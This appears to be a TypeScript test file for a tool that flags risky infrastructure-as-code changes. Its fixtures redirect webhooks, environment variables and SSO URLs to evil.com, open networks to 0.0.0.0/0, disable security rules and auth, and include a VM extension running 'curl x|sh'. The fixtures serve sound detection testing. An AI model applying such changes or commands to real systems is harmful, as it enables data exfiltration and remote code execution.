/** Over 400 lines because it is one table. Dangers of other providers, each of which was silent, or a note alone, and their harmless neighbours. */
import type { GivenChange } from "../support";
import { created, type Danger, expectHarmless, expectTold, updated } from "./one-change";

test.each<Danger>([
  [
    "gcp cloud run env url",
    updated(
      "google_cloud_run_v2_service",
      {
        name: "s",
        template: [{ containers: [{ image: "a", env: [{ name: "API_URL", value: "https://api.acme.com" }] }] }],
      },
      {
        name: "s",
        template: [{ containers: [{ image: "a", env: [{ name: "API_URL", value: "https://api.evil.com" }] }] }],
      },
    ),
    ["shared-outside attention: a variable leads elsewhere: API_URL api.acme.com → api.evil.com"],
  ],
  [
    "gcp no redirect to HTTPS",
    updated(
      "google_compute_url_map",
      { name: "u", default_url_redirect: [{ https_redirect: true }] },
      { name: "u", default_url_redirect: [], default_service: "s" },
    ),
    ["encryption-off attention: default_url_redirect.https_redirect true → (none)"],
  ],
  [
    "gcp builds of every branch",
    updated(
      "google_cloudbuild_trigger",
      { name: "t", github: [{ owner: "acme", name: "r", push: [{ branch: "^main$" }] }] },
      { name: "t", github: [{ owner: "acme", name: "r", push: [{ branch: ".*" }] }] },
    ),
    ["machine-code attention: github.push.branch ^main$ → .*"],
  ],
  [
    "gcp cloudbuild trigger comment control off",
    updated(
      "google_cloudbuild_trigger",
      {
        name: "t",
        github: [{ owner: "acme", name: "r", pull_request: [{ branch: ".*", comment_control: "COMMENTS_ENABLED" }] }],
      },
      {
        name: "t",
        github: [{ owner: "acme", name: "r", pull_request: [{ branch: ".*", comment_control: "COMMENTS_DISABLED" }] }],
      },
    ),
    ["safeguard-off attention: github.pull_request.comment_control COMMENTS_ENABLED → COMMENTS_DISABLED"],
  ],
  [
    "gcp cloud function env",
    updated(
      "google_cloudfunctions2_function",
      { name: "f", service_config: [{ environment_variables: { URL: "https://a.acme.com" } }] },
      { name: "f", service_config: [{ environment_variables: { URL: "https://b.evil.com" } }] },
    ),
    ["shared-outside attention: a variable leads elsewhere: URL a.acme.com → b.evil.com"],
  ],
  [
    "gcp scheduler uri",
    updated(
      "google_cloud_scheduler_job",
      { name: "j", http_target: [{ uri: "https://a.acme.com" }] },
      { name: "j", http_target: [{ uri: "https://evil.com" }] },
    ),
    ["shared-outside attention: http_target.uri https://a.acme.com → https://evil.com"],
  ],
  [
    "gcp composer",
    updated(
      "google_composer_environment",
      { name: "c", config: [{ web_server_network_access_control: [{ allowed_ip_range: [{ value: "10.0.0.0/8" }] }] }] },
      { name: "c", config: [{ web_server_network_access_control: [{ allowed_ip_range: [{ value: "0.0.0.0/0" }] }] }] },
    ),
    ["network-not-compared attention: config.web_server_network_access_control.allowed_ip_range.value gains 0.0.0.0/0"],
  ],
  [
    "az app settings url",
    updated(
      "azurerm_linux_web_app",
      { name: "w", app_settings: { API: "https://a.acme.com" } },
      { name: "w", app_settings: { API: "https://b.evil.com" } },
    ),
    ["shared-outside attention: a variable leads elsewhere: API a.acme.com → b.evil.com"],
  ],
  [
    "az vm extension script",
    created("azurerm_virtual_machine_extension", {
      name: "e",
      type: "CustomScript",
      settings: '{"commandToExecute":"curl x|sh"}',
    }),
    ['machine-code attention: a new one with settings {"commandToExecute":"curl x|sh"}'],
  ],
  [
    "az pg geo backup",
    updated(
      "azurerm_postgresql_flexible_server",
      { name: "p", backup_retention_days: 35 },
      { name: "p", backup_retention_days: 7 },
    ),
    ["recovery-shortened attention: backup_retention_days 35 → 7"],
  ],
  [
    "az vnet dns servers",
    updated(
      "azurerm_virtual_network",
      { name: "v", dns_servers: ["10.0.0.4"] },
      { name: "v", dns_servers: ["198.51.100.9"] },
    ),
    ['dns-target attention: dns_servers ["10.0.0.4"] → ["198.51.100.9"]'],
  ],
  [
    "az data factory public",
    updated(
      "azurerm_data_factory",
      { name: "d", public_network_enabled: false },
      { name: "d", public_network_enabled: true },
    ),
    ["public-endpoint danger: public_network_enabled false → true"],
  ],
  [
    "az container app ingress external",
    updated(
      "azurerm_container_app",
      { name: "c", ingress: [{ external_enabled: false, target_port: 80 }] },
      { name: "c", ingress: [{ external_enabled: true, target_port: 80 }] },
    ),
    ["public-endpoint attention: ingress.external_enabled false → true"],
  ],
  [
    "az apim subscription required off",
    updated(
      "azurerm_api_management_api",
      { name: "a", subscription_required: true },
      { name: "a", subscription_required: false },
    ),
    ["guest-access attention: subscription_required true → false"],
  ],
  [
    "az dns txt dkim",
    updated(
      "azurerm_dns_txt_record",
      { name: "s1._domainkey", record: [{ value: "v=DKIM1; p=a" }] },
      { name: "s1._domainkey", record: [{ value: "v=DKIM1; p=b" }] },
    ),
    ['dns-target attention: record [{"value":"v=DKIM1; p=a"}] → [{"value":"v=DKIM1; p=b"}]'],
  ],
  [
    "az logic app trigger access",
    updated(
      "azurerm_logic_app_workflow",
      { name: "l", access_control: [{ trigger: [{ allowed_caller_ip_address_range: ["10.0.0.0/8"] }] }] },
      { name: "l", access_control: [] },
    ),
    ['network-not-compared attention: access_control.trigger.allowed_caller_ip_address_range ["10.0.0.0/8"] → (none)'],
  ],
  [
    "k8s env url",
    updated(
      "kubernetes_deployment",
      {
        metadata: [{ name: "a" }],
        spec: [
          {
            template: [
              {
                spec: [{ container: [{ name: "a", image: "a", env: [{ name: "U", value: "https://api.acme.com" }] }] }],
              },
            ],
          },
        ],
      },
      {
        metadata: [{ name: "a" }],
        spec: [
          {
            template: [
              { spec: [{ container: [{ name: "a", image: "a", env: [{ name: "U", value: "https://evil.com" }] }] }] },
            ],
          },
        ],
      },
    ),
    ["shared-outside attention: a variable leads elsewhere: U api.acme.com → evil.com"],
  ],
  [
    "k8s configmap url",
    updated(
      "kubernetes_config_map",
      { metadata: [{ name: "a" }], data: { url: "https://api.acme.com" } },
      { metadata: [{ name: "a" }], data: { url: "https://evil.com" } },
    ),
    ["shared-outside attention: a variable leads elsewhere: url api.acme.com → evil.com"],
  ],
  [
    "k8s ingress host backend",
    updated(
      "kubernetes_ingress_v1",
      {
        metadata: [{ name: "a" }],
        spec: [
          {
            rule: [{ host: "a.acme.com", http: [{ path: [{ path: "/", backend: [{ service: [{ name: "a" }] }] }] }] }],
          },
        ],
      },
      {
        metadata: [{ name: "a" }],
        spec: [
          {
            rule: [
              { host: "a.acme.com", http: [{ path: [{ path: "/", backend: [{ service: [{ name: "debug" }] }] }] }] },
            ],
          },
        ],
      },
    ),
    ["dns-target attention: spec.rule.http.path.backend.service.name a → debug"],
  ],
  [
    "helm set auth false",
    updated(
      "helm_release",
      { name: "r", set: [{ name: "auth.enabled", value: "true" }] },
      { name: "r", set: [{ name: "auth.enabled", value: "false" }] },
    ),
    ["body-setting attention: auth.enabled true → false"],
  ],
  [
    "helm service type LB",
    updated(
      "helm_release",
      { name: "r", set: [{ name: "service.type", value: "ClusterIP" }] },
      { name: "r", set: [{ name: "service.type", value: "LoadBalancer" }] },
    ),
    ["body-setting attention: service.type ClusterIP → LoadBalancer"],
  ],
  [
    "gh webhook url",
    updated(
      "github_repository_webhook",
      { repository: "r", configuration: [{ url: "https://a.acme.com", insecure_ssl: false }] },
      { repository: "r", configuration: [{ url: "https://evil.com", insecure_ssl: false }] },
    ),
    ["shared-outside attention: configuration.url https://a.acme.com → https://evil.com"],
  ],
  [
    "gh webhook new",
    created("github_organization_webhook", { events: ["push"], configuration: [{ url: "https://evil.com" }] }),
    ["shared-outside attention: a new one with configuration.url https://evil.com"],
  ],
  [
    "gh members may make public repositories",
    updated(
      "github_organization_settings",
      { billing_email: "a", members_can_create_public_repositories: false },
      { billing_email: "a", members_can_create_public_repositories: true },
    ),
    ["access-setting attention: members_can_create_public_repositories false → true"],
  ],
  [
    "cf tunnel ingress",
    updated(
      "cloudflare_zero_trust_tunnel_cloudflared_config",
      {
        tunnel_id: "t",
        config: {
          ingress: [{ hostname: "a.acme.com", service: "http://localhost:80" }, { service: "http_status:404" }],
        },
      },
      {
        tunnel_id: "t",
        config: {
          ingress: [
            { hostname: "a.acme.com", service: "http://localhost:80" },
            { hostname: "db.acme.com", service: "tcp://db:5432" },
            { service: "http_status:404" },
          ],
        },
      },
    ),
    ["network-not-compared attention: config.ingress.hostname gains db.acme.com"],
  ],
  [
    "cf worker route",
    created("cloudflare_workers_route", { pattern: "acme.com/*", script: "x", zone_id: "z" }),
    ["dns-target attention: a new one with pattern acme.com/*"],
  ],
  [
    "cf authenticated origin pulls off",
    updated(
      "cloudflare_authenticated_origin_pulls_settings",
      { zone_id: "z", enabled: true },
      { zone_id: "z", enabled: false },
    ),
    ["guest-access attention: enabled true → false"],
  ],
  [
    "cf r2 bucket public domain",
    created("cloudflare_r2_managed_domain", { bucket_name: "b", enabled: true, account_id: "a" }),
    ["public-data danger: a new one with enabled true"],
  ],
  [
    "cf pages env",
    updated(
      "cloudflare_pages_project",
      {
        name: "p",
        deployment_configs: {
          production: { env_vars: { API: { type: "plain_text", value: "https://api.acme.com" } } },
        },
      },
      {
        name: "p",
        deployment_configs: { production: { env_vars: { API: { type: "plain_text", value: "https://evil.com" } } } },
      },
    ),
    ["shared-outside attention: a variable leads elsewhere: API api.acme.com → evil.com"],
  ],
  [
    "cf load balancer pool origin",
    updated(
      "cloudflare_load_balancer_pool",
      { name: "p", origins: [{ name: "a", address: "203.0.113.1", enabled: true }] },
      { name: "p", origins: [{ name: "a", address: "198.51.100.9", enabled: true }] },
    ),
    ["dns-target attention: origins.address loses 203.0.113.1"],
  ],
  [
    "dd security rule disabled",
    updated("datadog_security_monitoring_rule", { name: "r", enabled: true }, { name: "r", enabled: false }),
    ["safeguard-off attention: enabled true → false"],
  ],
  [
    "dd suppression new",
    created("datadog_security_monitoring_suppression", { name: "s", enabled: true, rule_query: "*" }),
    ["safeguard-off attention: a new one with rule_query *"],
  ],
  [
    "dd logs archive dest",
    updated(
      "datadog_logs_archive",
      { name: "a", s3_archive: [{ bucket: "acme", path: "/", account_id: "1", role_name: "r" }] },
      { name: "a", s3_archive: [{ bucket: "other", path: "/", account_id: "1", role_name: "r" }] },
    ),
    ["shared-outside attention: s3_archive.bucket acme → other"],
  ],
  [
    "dd webhook url",
    updated("datadog_webhook", { name: "w", url: "https://a.acme.com" }, { name: "w", url: "https://evil.com" }),
    ["shared-outside attention: url https://a.acme.com → https://evil.com"],
  ],
  [
    "vault userpass user",
    created("vault_generic_endpoint", { path: "auth/userpass/users/x", data_json: "{}" }),
    ["access-setting attention: a new one with data_json {}"],
  ],
  [
    "vault transit exportable",
    updated(
      "vault_transit_secret_backend_key",
      { name: "k", exportable: false, deletion_allowed: false },
      { name: "k", exportable: true, deletion_allowed: true },
    ),
    [
      "access-setting attention: exportable false → true",
      "deletion-protection-off attention: deletion_allowed false → true",
    ],
  ],
  [
    "okta app saml sso url",
    updated(
      "okta_app_saml",
      { label: "a", sso_url: "https://a.com/acs" },
      { label: "a", sso_url: "https://evil.com/acs" },
    ),
    ["access-setting attention: sso_url https://a.com/acs → https://evil.com/acs"],
  ],
  [
    "okta a scope of an app",
    created("okta_app_oauth_api_scope", { app_id: "a", scopes: ["okta.users.manage"], issuer: "https://x" }),
    ["access-setting attention: scopes has okta.users.manage"],
  ],
  [
    "okta event hook channel",
    updated(
      "okta_event_hook",
      { name: "h", channel: { uri: "https://a" } },
      { name: "h", channel: { uri: "https://evil" } },
    ),
    ["shared-outside attention: channel.uri https://a → https://evil"],
  ],
  [
    "okta inline hook",
    created("okta_inline_hook", {
      name: "h",
      type: "com.okta.oauth2.tokens.transform",
      channel: { uri: "https://evil" },
    }),
    ["shared-outside attention: a new one with channel.uri https://evil"],
  ],
])("%s", (_name, given, want) => {
  expectTold(given, want);
});

test.each<[name: string, given: GivenChange]>([
  [
    "scheduler path",
    updated(
      "google_cloud_scheduler_job",
      { http_target: [{ uri: "https://a.acme.com/1" }] },
      { http_target: [{ uri: "https://a.acme.com/2" }] },
    ),
  ],
  [
    "gh file outside of workflows",
    updated("github_repository_file", { file: "README.md", content: "a" }, { file: "README.md", content: "b" }),
  ],
  [
    "agent extension new",
    created("azurerm_virtual_machine_extension", { type: "AzureMonitorLinuxAgent", settings: null }),
  ],
  [
    "cf route script new version same",
    updated("cloudflare_workers_route", { pattern: "a/*", script: "x" }, { pattern: "a/*", script: "x" }),
  ],
  [
    "ingress new path same services",
    updated(
      "kubernetes_ingress_v1",
      { spec: [{ rule: [{ http: [{ path: [{ path: "/a", backend: [{ service: [{ name: "a" }] }] }] }] }] }] },
      { spec: [{ rule: [{ http: [{ path: [{ path: "/b", backend: [{ service: [{ name: "a" }] }] }] }] }] }] },
    ),
  ],
  [
    "pg backup longer",
    updated("azurerm_postgresql_flexible_server", { backup_retention_days: 7 }, { backup_retention_days: 35 }),
  ],
  [
    "k8s svc",
    updated(
      "kubernetes_config_map",
      { data: { url: "http://redis:6379" } },
      { data: { url: "http://redis-2.default:6379" } },
    ),
  ],
  [
    "k8s svc cluster",
    updated(
      "kubernetes_config_map",
      { data: { REDIS_URL: "http://redis.a.svc.cluster.local:6379" } },
      { data: { REDIS_URL: "http://redis.b.svc.cluster.local:6379" } },
    ),
  ],
  [
    "new variable",
    updated("kubernetes_config_map", { data: {} }, { data: { REDIS_URL: "http://redis.b.svc.cluster.local:6379" } }),
  ],
  [
    "helm persistence on",
    updated(
      "helm_release",
      { name: "r", chart: "x", set: [{ name: "persistence.enabled", value: "false" }] },
      { name: "r", chart: "x", set: [{ name: "persistence.enabled", value: "true" }] },
    ),
  ],
  [
    "helm replicas and image tag",
    updated(
      "helm_release",
      {
        name: "r",
        chart: "x",
        set: [
          { name: "auth.enabled", value: "true" },
          { name: "image.tag", value: "1" },
        ],
      },
      {
        name: "r",
        chart: "x",
        set: [
          { name: "image.tag", value: "2" },
          { name: "auth.enabled", value: "true" },
        ],
      },
    ),
  ],
])("%s is no danger", (_name, given) => {
  expectHarmless(given);
});
